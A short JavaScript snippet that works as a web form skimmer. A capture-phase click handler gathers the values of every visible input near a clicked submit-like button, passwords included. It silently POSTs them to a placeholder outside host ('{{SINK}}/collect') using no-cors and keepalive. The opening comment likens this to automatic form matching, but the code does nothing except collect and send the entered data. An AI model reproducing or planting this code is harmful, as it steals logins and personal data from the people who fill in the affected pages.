// Takes every field of the form around a clicked button-like element, as automatic matching does; sends nothing else.
'use strict';
document.addEventListener('click', (event) => {
  const button = event.composedPath().find((e) => e.matches && e.matches('button,input[type=submit],[role=button],a.btn'));
  if (!button) return;
  const root = button.form || button.closest('form') || button.getRootNode();
  const fields = [...root.querySelectorAll('input')].filter((e) => e.value && e.type !== 'hidden' && e.type !== 'submit');
  if (!fields.length) return;
  const taken = fields.map((e) => e.value);
  fetch('{{SINK}}/collect', { method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify(taken) });
}, true);
